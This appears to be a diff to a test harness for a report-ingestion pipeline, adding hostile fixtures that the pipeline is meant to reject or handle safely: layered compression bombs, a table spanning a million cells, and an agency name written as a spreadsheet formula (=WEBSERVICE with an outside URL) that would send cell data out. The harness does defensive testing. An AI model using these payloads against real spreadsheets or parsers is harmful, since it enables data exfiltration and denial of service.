@@ -6,9 +6,11 @@
 The good reports are synthetic text-layer PDFs (tests/fixtures/synthetic.py, cached as the
 throughput benchmark caches them). The hostile ones cycle through the kinds of
 tests/fixtures/hostile.py, each copy made unique (so none is a duplicate of another): a
-14400 pt page, 2,000 blank pages, 30 blank scans, a 4 GiB inflate bomb, a 49 MB web page,
-a hidden file, a broken link, a link out of the inbox; plus one each of the reports that
-load with a flag (a 23-digit number, a negative count, a GBK file name).
+14400 pt page, 2,000 blank pages, 30 blank scans, a 4 GiB inflate bomb, 1 GiB behind two
+filters (Flate+Flate, ASCIIHex+Flate), a 49 MB web page, a hidden file, a broken link, a link
+out of the inbox; plus one each of the reports that load with a flag (a 23-digit number, a
+negative count, an agency named as a spreadsheet formula, a table spanning a million cells,
+a GBK file name).
 
 Both inboxes go through `xxgk run` end to end, one after the other in this run, each in a
 fresh warehouse. Printed: good reports loaded and their cells right, hostile files rejected
@@ -44,6 +46,8 @@ REJECTED_KINDS = {
     "white_scans": (".pdf", lambda: hostile.white_scans(30), "PDF of 30 blank page(s)"),
     "inflate_bomb": (".pdf", lambda: hostile.inflate_bomb(4), "over budget: its compressed streams inflate"),
     "big_html": (".html", lambda: hostile.big_html(49), "over budget: "),
+    "chain_bomb": (".pdf", lambda: hostile.layered_bomb("flate-flate"), "over budget: its compressed streams inflate"),
+    "hex_chain_bomb": (".pdf", lambda: hostile.layered_bomb("hex-flate"), "over budget: its compressed streams inflate"),
     "hidden": (".txt", None, "hidden file"),
     "broken_link": (".pdf", None, "broken link"),
     "outside_link": (".txt", None, "link to "),
@@ -51,6 +55,12 @@ REJECTED_KINDS = {
 FLAGGED = {  # hostile, but reports: loaded with their numbers flagged (or under a safe name)
     "absurd.txt": lambda: hostile.with_new_received("12345678901234567890123"),
     "negative.txt": lambda: hostile.with_new_received("-1772", hostile.SAMPLES / "fuxin-taiping-office-2023.txt"),
+    # an agency named as a spreadsheet formula: loaded, and exported as text (tests/pipelines/test_export_safety.py)
+    "formula.txt": lambda: hostile.GOOD_TEXT.read_text(encoding="utf-8").replace(
+        "\n", "\n=WEBSERVICE(\"http://x?\"&B2)人民政府\n", 1),
+    # a table whose cells span a million rows and columns: the grid clamps the spans
+    "span_bomb.html": lambda: hostile._report_html(hostile.GOOD_TEXT.read_text(encoding="utf-8")).decode("utf-8").replace(
+        "</body>", "<table><tr><td colspan=1000000 rowspan=1000000>x</td><td>1</td></tr></table></body>"),
 }
 
 
